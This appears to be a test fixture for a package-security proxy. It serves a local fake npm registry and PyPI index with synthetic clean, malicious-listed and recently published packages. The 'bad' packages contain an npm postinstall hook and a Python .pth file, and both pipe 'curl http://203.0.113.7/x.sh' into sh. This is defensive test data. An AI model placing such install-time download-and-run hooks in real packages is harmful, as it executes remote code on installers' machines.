/**
 * A local upstream for the proxy tests and the bench: an npm registry and a PyPI Simple index on 127.0.0.1,
 * serving packages written here (never real ones): clean, failing (an install-time download-and-run), and a
 * release published an hour ago.
 */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { buildTar, buildZip } from '../../artifacts/testing/build-archives.ts';
import { startTestServer, type TestServer } from '../../sources/testing/server.ts';

export interface UpstreamPackage {
  readonly name: string;
  readonly version: string;
  /** ISO publish time. */
  readonly publishedAt: string;
  readonly files: Readonly<Record<string, string>>;
}

const LONG_AGO = '2024-01-15T10:00:00.000Z';

export function npmTarball(pkg: UpstreamPackage): Buffer {
  return gzipSync(
    buildTar(Object.entries(pkg.files).map(([name, data]) => ({ name: `package/${name}`, data }))),
  );
}

function manifest(name: string, version: string, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ name, version, main: 'index.js', license: 'MIT', ...extra }, null, 2);
}

/** The npm packages the upstream serves. */
export function npmPackages(now: Date): UpstreamPackage[] {
  const recent = new Date(now.getTime() - 60 * 60 * 1000).toISOString();
  return [
    {
      name: 'clean-pkg',
      version: '1.0.0',
      publishedAt: LONG_AGO,
      files: {
        'package.json': manifest('clean-pkg', '1.0.0'),
        'index.js': 'module.exports = (a, b) => a + b;\n',
      },
    },
    {
      name: 'bad-pkg',
      version: '1.0.0',
      publishedAt: LONG_AGO,
      files: {
        'package.json': manifest('bad-pkg', '1.0.0', {
          scripts: { postinstall: 'curl -s http://203.0.113.7/x.sh | sh' },
        }),
        'index.js': 'module.exports = 1;\n',
      },
    },
    {
      // Listed as malicious (every version) in the shipped OpenSSF snapshot; the code itself is harmless.
      name: 'a11y-speak',
      version: '1.0.0',
      publishedAt: LONG_AGO,
      files: {
        'package.json': manifest('a11y-speak', '1.0.0'),
        'index.js': 'module.exports = () => undefined;\n',
      },
    },
    {
      name: 'young-pkg',
      version: '1.0.0',
      publishedAt: LONG_AGO,
      files: { 'package.json': manifest('young-pkg', '1.0.0'), 'index.js': 'module.exports = "one";\n' },
    },
    {
      name: 'young-pkg',
      version: '1.1.0',
      publishedAt: recent,
      files: { 'package.json': manifest('young-pkg', '1.1.0'), 'index.js': 'module.exports = "one-one";\n' },
    },
  ];
}

export function wheel(name: string, version: string, extra: Record<string, string> = {}): Buffer {
  const info = `${name}-${version}.dist-info`;
  const files: [string, string][] = [
    [`${name}/__init__.py`, 'def add(a, b):\n    return a + b\n'],
    [`${info}/METADATA`, `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nLicense: MIT\n\n`],
    [
      `${info}/WHEEL`,
      'Wheel-Version: 1.0\nGenerator: assay-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n',
    ],
    ...Object.entries(extra),
  ];
  // RECORD lists every file with its digest, as a wheel must (assay checks it: failed-integrity-check).
  const record = files.map(([file, data]) => {
    const digest = createHash('sha256').update(data).digest('base64url');
    return `${file},sha256=${digest},${Buffer.byteLength(data)}`;
  });
  record.push(`${info}/RECORD,,`);
  return buildZip([
    ...files.map(([file, data]) => ({ name: file, data })),
    { name: `${info}/RECORD`, data: `${record.join('\n')}\n` },
  ]);
}

/** The PyPI files: a clean project, one whose wheel ships a .pth that downloads and runs code, a young release. */
export function pypiFiles(
  now: Date,
): { project: string; version: string; filename: string; bytes: Buffer; uploadedAt: string }[] {
  const recent = new Date(now.getTime() - 60 * 60 * 1000).toISOString();
  const file = (
    project: string,
    version: string,
    uploadedAt: string,
    extra: Record<string, string> = {},
  ) => ({
    project: project.replace(/_/g, '-'),
    version,
    filename: `${project}-${version}-py3-none-any.whl`,
    bytes: wheel(project, version, extra),
    uploadedAt,
  });
  return [
    file('clean_pkg', '1.0', LONG_AGO),
    file('bad_pkg', '1.0', LONG_AGO, {
      'bad_pkg-init.pth': "import os; os.system('curl -s http://203.0.113.7/x.sh | sh')\n",
    }),
    file('young_pkg', '1.0', LONG_AGO),
    file('young_pkg', '1.1', recent),
  ];
}

const sha512 = (bytes: Buffer) => `sha512-${createHash('sha512').update(bytes).digest('base64')}`;
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

/**
 * npm: `/npm/<name>` (full packuments with publish times) and `/npm/<name>/-/<file>.tgz`.
 * PyPI: `/simple/<project>/` as PEP 691 JSON (with upload times) or PEP 503 HTML by Accept, files under `/files/`.
 */
export async function startUpstream(
  now: Date = new Date(),
  extraNpm: readonly UpstreamPackage[] = [],
): Promise<TestServer> {
  const server = await startTestServer();
  const base = server.url;
  const byName = new Map<string, UpstreamPackage[]>();
  for (const pkg of [...npmPackages(now), ...extraNpm])
    byName.set(pkg.name, [...(byName.get(pkg.name) ?? []), pkg]);
  for (const [name, versions] of byName) {
    const packument = {
      name,
      'dist-tags': { latest: versions[versions.length - 1]?.version },
      versions: {} as Record<string, unknown>,
      time: { created: LONG_AGO, modified: versions[versions.length - 1]?.publishedAt } as Record<
        string,
        string
      >,
    };
    for (const pkg of versions) {
      const bytes = npmTarball(pkg);
      const file = `${name}-${pkg.version}.tgz`;
      server.route(`/npm/${name}/-/${file}`, { body: bytes });
      packument.versions[pkg.version] = {
        ...(JSON.parse(pkg.files['package.json'] ?? '{}') as Record<string, unknown>),
        dist: {
          tarball: `${base}/npm/${name}/-/${file}`,
          integrity: sha512(bytes),
          shasum: createHash('sha1').update(bytes).digest('hex'),
        },
      };
      packument.time[pkg.version] = pkg.publishedAt;
    }
    server.route(`/npm/${name}`, {
      body: JSON.stringify(packument),
      headers: { 'content-type': 'application/json' },
    });
  }
  const projects = new Map<string, ReturnType<typeof pypiFiles>>();
  for (const file of pypiFiles(now)) {
    projects.set(file.project, [...(projects.get(file.project) ?? []), file]);
    server.route(`/files/${file.filename}`, { body: file.bytes });
  }
  for (const [project, files] of projects) {
    const json = JSON.stringify({
      meta: { 'api-version': '1.1' },
      name: project,
      versions: [...new Set(files.map((f) => f.version))],
      files: files.map((f) => ({
        filename: f.filename,
        url: `/files/${f.filename}`,
        hashes: { sha256: sha256(f.bytes) },
        'requires-python': null,
        yanked: false,
        size: f.bytes.length,
        'upload-time': f.uploadedAt,
      })),
    });
    server.route(`/simple/${project}/`, (request) =>
      String(request.headers['accept'] ?? '').includes('application/vnd.pypi.simple.v1+json')
        ? { body: json, headers: { 'content-type': 'application/vnd.pypi.simple.v1+json' } }
        : {
            body: `<!DOCTYPE html><html><body>${files
              .map((f) => `<a href="../../files/${f.filename}#sha256=${sha256(f.bytes)}">${f.filename}</a>`)
              .join('<br/>')}</body></html>`,
            headers: { 'content-type': 'text/html' },
          },
    );
  }
  return server;
}
